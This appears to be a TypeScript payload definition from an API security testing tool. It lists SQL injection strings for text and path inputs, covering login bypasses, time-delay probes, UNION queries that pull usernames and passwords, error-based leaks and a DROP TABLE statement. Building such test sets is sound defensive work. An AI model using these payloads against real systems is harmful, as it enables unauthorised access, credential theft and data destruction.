import { definePayload } from '../world/payloads.ts'

export default definePayload({
  id: 'injection-sql',
  title: 'SQL in the place of values',
  owasp: ['API8:2023'],
  inputs: ['text', 'path'],
  values: [
    "' OR '1'='1",
    "' OR 1=1-- -",
    "1' AND SLEEP(5)-- -",
    "' UNION SELECT NULL,NULL,NULL-- -",
    "' UNION SELECT username,password FROM users-- -",
    '1; DROP TABLE orders-- -',
    "') OR ('a'='a",
    "' AND 1=CONVERT(int,@@version)-- -",
    '1 AND (SELECT COUNT(*) FROM information_schema.tables)>0',
    "'||(SELECT pg_sleep(4))||'",
    "admin'--",
    "' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT database())))-- -",
    '1 OR 1=1',
    '" OR ""="',
    "' GROUP BY # HAVING 1=1-- -",
  ],
})
